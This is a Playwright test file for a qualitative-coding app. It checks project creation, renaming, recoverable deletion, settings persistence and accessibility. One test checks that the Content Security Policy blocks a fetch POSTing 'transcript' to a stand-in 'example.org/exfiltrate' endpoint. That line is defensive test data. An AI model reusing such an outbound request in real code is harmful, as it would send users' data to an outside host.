import { expect, test } from "@playwright/test";
import { completeFirstRun, createProject, seriousA11yViolations } from "./helpers/app";

test("first run, create, reload, rename and delete a project", async ({ page }) => {
  await completeFirstRun(page, "Amira Patel", "ap");
  await expect(page.getByLabel("Coding as Amira Patel")).toContainText("AP");
  await expect(page.getByText("No projects yet.")).toBeVisible();

  await createProject(page, "GDE evaluation");
  await expect(page.getByRole("heading", { name: "This project has no sources yet" })).toBeVisible();

  await page.getByRole("link", { name: "Margin" }).click();
  const projects = page.getByRole("table", { name: "Projects" });
  await expect(projects.getByRole("link", { name: "GDE evaluation" })).toBeVisible();

  await page.reload();
  await expect(projects.getByRole("link", { name: "GDE evaluation" })).toBeVisible();
  await expect(page.getByLabel("Your name")).toHaveCount(0); // the profile survived the reload too

  await page.getByRole("button", { name: "Rename GDE evaluation" }).click();
  await page.getByLabel("Project name").fill("GDE evaluation – wave 2");
  await page.getByRole("button", { name: "Rename", exact: true }).click();
  await expect(projects.getByRole("link", { name: "GDE evaluation – wave 2" })).toBeVisible();

  await page.getByRole("button", { name: "Delete GDE evaluation – wave 2" }).click();
  const confirm = page.getByRole("button", { name: "Delete project" });
  await expect(confirm).toBeDisabled();
  await page.getByLabel("Type the project name to confirm").fill("GDE evaluation");
  await expect(confirm).toBeDisabled();
  await page.getByLabel("Type the project name to confirm").fill("GDE evaluation – wave 2");
  await confirm.click();
  await expect(page.getByText("No projects yet.")).toBeVisible();

  // Deletion is recoverable.
  await page.getByText("Deleted projects (1)").click();
  await page.getByRole("button", { name: "Restore GDE evaluation – wave 2" }).click();
  await expect(projects.getByRole("link", { name: "GDE evaluation – wave 2" })).toBeVisible();
});

test("the renderer cannot reach the network (CSP)", async ({ page }) => {
  await completeFirstRun(page);
  const violations: string[] = [];
  page.on("console", (message) => {
    if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
  });
  const outcome = await page.evaluate(async () => {
    try {
      await fetch("https://example.org/exfiltrate", { method: "POST", body: "transcript" });
      return "reached";
    } catch (error) {
      return `blocked: ${String(error)}`;
    }
  });
  expect(outcome).toMatch(/^blocked/);
  const imageBlocked = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener("securitypolicyviolation", (e) => resolve(`${e.violatedDirective} ${e.blockedURI}`), { once: true });
        const img = new Image();
        img.src = "https://example.org/pixel.png";
      }),
  );
  expect(imageBlocked).toMatch(/^img-src https:\/\/example\.org/);
  expect(violations.join("\n")).toMatch(/connect-src/);
});

test("settings show the coder profile and persistent storage status", async ({ page }) => {
  await completeFirstRun(page);
  await page.getByRole("button", { name: "Settings" }).click();
  const dialog = page.getByRole("dialog", { name: "Settings" });
  await expect(dialog.getByTestId("persistent-storage")).toHaveText(/Granted|Not granted|Unknown/);
  await dialog.getByLabel("Your name").fill("Amira K. Patel");
  await dialog.getByRole("button", { name: "Save profile" }).click();
  await expect(dialog.getByRole("status").filter({ hasText: /^Saved$/ })).toBeVisible();
  await dialog.getByLabel("Dark").check();
  await expect(page.locator("html")).toHaveClass(/dark/);
  await dialog.getByRole("button", { name: "Close" }).click();
  await expect(page.getByLabel("Coding as Amira K. Patel")).toBeVisible();
  await page.reload();
  await expect(page.locator("html")).toHaveClass(/dark/);
});

test("no serious accessibility issues on the home screen and the empty project", async ({ page }) => {
  await completeFirstRun(page);
  expect(await seriousA11yViolations(page)).toEqual([]);
  await createProject(page, "Accessible project");
  expect(await seriousA11yViolations(page)).toEqual([]);
  await page.getByRole("button", { name: "Import sources" }).click();
  expect(await seriousA11yViolations(page)).toEqual([]);
});
